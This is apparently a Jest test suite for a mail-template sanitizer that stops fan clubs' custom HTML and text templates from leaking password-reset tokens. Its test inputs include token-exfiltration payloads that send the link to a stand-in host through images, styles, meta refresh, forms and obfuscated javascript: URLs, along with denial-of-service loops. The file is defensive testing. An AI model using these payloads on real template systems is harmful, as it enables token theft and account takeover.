import { withLayout } from './mail-layout';
import '../../domains';
import { MAILS } from './mail-kinds';
import { MailTextRefused, renderOwnMail, tryOwnMail } from './own-mail';
import type { MailVariables } from './templates';
import { defaultWording, type OwnWording } from './wording';

const NONE: OwnWording = { subject: null, text: null, html: null };
const LINK = 'https://api.example.test/fanclubs/1/confirm?token=a&b=c';
const LOGO = 'https://comets.example/logo.png';
const FANCLUB = {
  name: 'The Tin Comets',
  site_url: 'https://comets.example',
  support_email: 'help@comets.example',
  logo_url: LOGO,
};

const rendered = (own: Partial<OwnWording>, changes: Partial<MailVariables> = {}) =>
  renderOwnMail(
    'reset_password',
    { ...NONE, ...own },
    { ...{ fanclub: FANCLUB, first_name: 'Ada', link: LINK, expires: '1 hour', payment: null }, ...changes },
  );
const inHtml = (html: string) => (): string => rendered({ html: `<p>{{ link }}</p>${html}` }).html;

describe('mail templates leak no tokens: the HTML of a fan club', () => {
  it.each([
    [
      'that adds the link to an attribute',
      "<img {{ 'src=https://x.example/?u=' | append: link }}>",
      /link only/,
    ],
    ['with a filter', '<a href="{{ link | url_encode }}">x</a>', /link only/],
    [
      'with the link under another name',
      '{% assign l = link %}<img src="https://x.example/{{ l }}">',
      /link only/,
    ],
    ['with the link in a condition', '{% if link contains "a" %}a{% endif %}', /link only/],
    [
      'with the link in a branch that the sample does not reach',
      '{% if false %}{{ link | upcase }}{% endif %}',
      /link only/,
    ],
    ['with a variable of the same name', '{% assign link = "x" %}', /link only/],
    ['with the name of the variable in another', "{% assign n = 'link' %}{{ [n] }}", /undefined variable/],
    [
      'with the captured link',
      '{% capture l %}{{ link }}{% endcapture %}<img src="https://x.example/{{ l }}">',
      /attribute src/,
    ],
    ['with the link in a picture', '<img src="https://x.example/?{{ link }}">', /attribute src/],
    [
      'with the link in a style',
      '<p style="background:url(https://x.example/{{ link }})">',
      /attribute style/,
    ],
    ['with any address in a style', '<p style="background:URL (https://x.example/)">', /must not load/],
    [
      'with an address in a style that is written otherwise',
      '<p style="background:u\\72l(https://x.example/)">',
      /must not load/,
    ],
    ['with a background', '<body background="https://x.example/">', /attribute background/],
    ['with a style sheet', '<style>p { background: url(https://x.example/) }</style>', /<style>/],
    [
      'with a conditional comment',
      '<!--[if mso]><img src="https://x.example/{{ link }}"><![endif]-->',
      /comments/,
    ],
    ['with a conditional comment that is none', '<![if !mso]><b>x</b><![endif]>', /comments/],
    [
      'with a meta refresh',
      '<meta http-equiv="refresh" content="0;url=https://x.example/{{ link }}">',
      /http-equiv/,
    ],
    ['with another base', '<base href="https://x.example/">', /<base>/],
    ['with a form', '<form action="https://x.example/"><input name="u" value="{{ link }}"></form>', /<form>/],
    ['with a picture of another website', '<img src="https://x.example/logo.png">', /pictures but the logo/],
    ['with a set of pictures', `<img src="${LOGO}" srcset="https://x.example/ 2x">`, /srcset/],
    ['that reports clicks', '<a href="{{ link }}" ping="https://x.example/">x</a>', /attribute ping/],
    ['with the link inside of an address', '<a href="https://x.example/?{{ link }}">x</a>', /whole address/],
    ['with the link after an address', '<p>https://x.example/?u={{ link }}</p>', /by itself/],
    [
      'with the link after an address, between them a tag',
      'https://x.example/?u=<b>{{ link }}</b>',
      /by itself/,
    ],
    [
      'with the link after an address that is written otherwise',
      'https://x.example/?u&#61;{{ link }}',
      /by itself/,
    ],
    ['with a script', '<script>x()</script>', /<script>/],
    ['with a handler', '<p onclick="x()">', /attribute onclick/],
    ['with a dangerous address', '<a href="java&#115;cript:x()">x</a>', /must have addresses/],
    [
      'that ends a text early',
      '<title><a title="</title><img src=https://x.example/{{ link }}>">',
      /must not contain/,
    ],
  ])('%s is refused', (_, html, fault) => {
    expect(inHtml(html)).toThrow(fault);
  });

  it('is refused for what its variables decide when it is sent', () => {
    const html =
      '<p>{{ link }}</p>{% if first_name != "Ada" %}{% capture l %}{{ link }}{% endcapture %}<img src="https://x.example/{{ l }}">{% endif %}';
    expect(
      tryOwnMail('reset_password', { ...NONE, html: html.replace('!= "Ada"', '== "Eve"') }, FANCLUB).html,
    ).toContain('link.example');
    expect(() => rendered({ html }, { first_name: 'Bea' })).toThrow(MailTextRefused);
  });

  it('is sent as it was understood', () => {
    expect(inHtml('<p>1 < 2 <A HREF=" {{link}} " title=\'"\'>go</A><p>')()).toBe(
      `<p>${LINK.replace('&', '&#38;')}</p><p>1 &lt; 2 <a href="${LINK.replace('&', '&#38;')}" title="&quot;">go</a></p><p></p>\n`,
    );
  });
});

describe('mail templates leak no tokens: the text of a fan club', () => {
  it.each([
    ['with the link after an address', 'https://x.example/?u={{ link }}', /by itself/],
    ['with the link in the second line of an address', '<https://x.example/?u=\n{{ link }}>', /by itself/],
    ['with a filter', '{{ link }} {{ link | base64_encode }}', /link only/],
    ['without the link', 'Hello', /must contain/],
    ['with a tag that prints markup', '{{ link }} {% raw %}{{ <img> }}{% endraw %}', /raw/],
  ])('%s is refused', (_, text, fault) => {
    expect(() => rendered({ text })).toThrow(fault);
  });

  it('may have the link at the beginning, after white space and in angle brackets', () => {
    expect(rendered({ text: '{{ link }}\n{{- link }} <{{ link }}>, {{ link }}.' }).text).toContain(
      `<${LINK}>, ${LINK}.`,
    );
  });
});

it('the subject of a mail has no link', () => {
  expect(() => rendered({ subject: '{{ link }}' })).toThrow('must not contain {{ link }}');
});

it('texts of a mail with a code print it', () => {
  const { text, html } = defaultWording('presale_code');
  const without = (own: string) => own.replace(/\{% for .*?\{% endfor %\}/gs, '');
  for (const own of [
    { ...NONE, text: without(text) },
    { ...NONE, html: without(html) },
  ])
    expect(() => tryOwnMail('presale_code', own, FANCLUB)).toThrow('must print the code');
});

it.each(MAILS.names())('the default of %s could be a fan club’s own', (kind) => {
  const { subject, text, html } = tryOwnMail(kind, defaultWording(kind), FANCLUB);
  expect([subject, text, html].join()).not.toMatch(/link[0-9a-f]{32}/);
  expect(html).toMatch(/<a [^>]*href="https:..link.example.sample"/);
});

it.each([
  'display:inline',
  'color:red; DISPLAY : none',
  'font-size:0',
  'font: 0/0 a',
  'visibility:hidden',
  'position:absolute',
  'white-space:nowrap',
])('mail templates leak no tokens: a style with %s could join the link to an address before it', (style) => {
  expect(inHtml(`<p style="${style}">https://x.example/?u=</p><p>{{ link }}</p>`)).toThrow(
    'hide, move or join',
  );
});

it.each(['display:block', 'display:inline-block;font-size:0.9em', 'font:16px/1.5 serif', 'font-size:10px'])(
  'a fan club may use a style with %s',
  (style) => {
    expect(inHtml(`<p style="${style}">Hello</p><p>{{ link }}</p>`)()).toContain('Hello');
  },
);

it('the HTML of a fan club gets the layout of its look, unless it is a whole document', () => {
  const look = {
    name: 'Fan Club',
    siteUrl: 'https://x.example',
    logoUrl: null,
    accentColor: null,
    font: null,
  };
  const sent = (html: string) =>
    withLayout(tryOwnMail('reset_password', { ...NONE, html }, FANCLUB), look).html;
  expect(sent('<p>{{ link }}</p>')).toContain('class="ticket"');
  expect(sent('<!doctype html><p>{{ link }}</p>')).not.toContain('class="ticket"');
});

it('a fan club may show its logo, colours and tables', () => {
  const html = `<table bgcolor="#fff"><tr><td style="color:rgb(1, 2, 3)"><img src="{{ fanclub.logo_url }}" alt=""></td></tr></table>`;
  expect(inHtml(html)()).toContain(`<img src="${LOGO}" alt="" />`);
});

it.each([
  ['loops', '{{ link }}{% for i in (1..9999) %}{% for j in (1..9999) %}x{% endfor %}{% endfor %}'],
  [
    'loops that print nothing',
    '{{ link }}{% for i in (1..9999) %}{% for j in (1..9999) %}{% endfor %}{% endfor %}',
  ],
  ['much output', `{{ link }}{% for i in (1..9999) %}${'x'.repeat(40_000)}{% endfor %}`],
  ['many tags', `<p>{{ link }}</p>${'<p><b>'.repeat(3_000)}`],
  ['many values', `<p>{{ link }}</p>${'{{ fanclub.name }}'.repeat(2_700)}`],
  ['a long style', `<p>{{ link }}</p><p style="${'a'.repeat(48_000)}(">`],
  ['brackets', `${'<'.repeat(48_000)}> {{ link | upcase }}`],
])('a preview stops nobody: %s', (_, html) => {
  const begun = process.cpuUsage();
  expect(() => rendered({ html })).toThrow(MailTextRefused);
  expect(() => rendered({ text: html })).toThrow(MailTextRefused);
  // Several times what both take, in microseconds; without bounds each of them takes seconds.
  expect(process.cpuUsage(begun).user).toBeLessThan(700_000);
});

it('accepts a template during which the process pauses once, and refuses one that is always too slow', () => {
  const own = { ...NONE, html: '<p>{% if first_name %}Hi{% endif %} {{ link }}</p>' };
  const real = performance.now.bind(performance);
  const tried = (pauses: number) => () => {
    let asked = 0;
    const now = jest.spyOn(performance, 'now').mockImplementation(() => {
      asked += 1;
      return real() + 1_000 * Math.min(asked, pauses);
    });
    try {
      return tryOwnMail('reset_password', own, FANCLUB).html;
    } finally {
      now.mockRestore();
    }
  };
  // The first reading of the clock begins the first part, so that the second one sees a pause.
  expect(tried(2)()).toContain('Hi');
  expect(tried(Infinity)).toThrow(/limit exceeded/);
});
